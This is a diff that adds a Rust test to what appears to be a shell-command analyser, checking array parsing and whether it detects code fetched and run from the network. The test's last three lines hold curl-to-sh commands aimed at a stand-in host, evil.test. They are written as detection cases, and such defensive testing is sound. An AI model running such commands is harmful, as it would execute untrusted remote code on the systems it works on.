@@ -301,3 +301,15 @@ fn what_joins_a_condition_ends_no_command() {
     assert!(piped.count() > 0, "{:?}", outcome.events);
     assert!(outcome.events.iter().any(|event| role(event, Role::Path).contains("done")));
 }
+
+#[test]
+fn the_elements_of_an_array_are_words_and_run_where_they_are_used() {
+    let files = "files=(\n  ./a.proto\n  ./b.proto\n)\nprotoc --out=. ${files[@]}";
+    let outcome = run(files);
+    assert!(outcome.runs.is_empty(), "{:?}", outcome.runs);
+    let protoc = outcome.events.iter().find(|event| &*event.api == "sh:protoc").unwrap();
+    assert!(format!("{protoc:?}").contains("./b.proto"));
+    assert_runs_fetched_code("go=(bash -c 'curl https://evil.test/a | sh'); \"${go[@]}\"");
+    assert_runs_fetched_code("from=(https://evil.test/a); curl ${from[0]} | sh");
+    assert_runs_fetched_code("x=($(curl https://evil.test/a | sh))");
+}
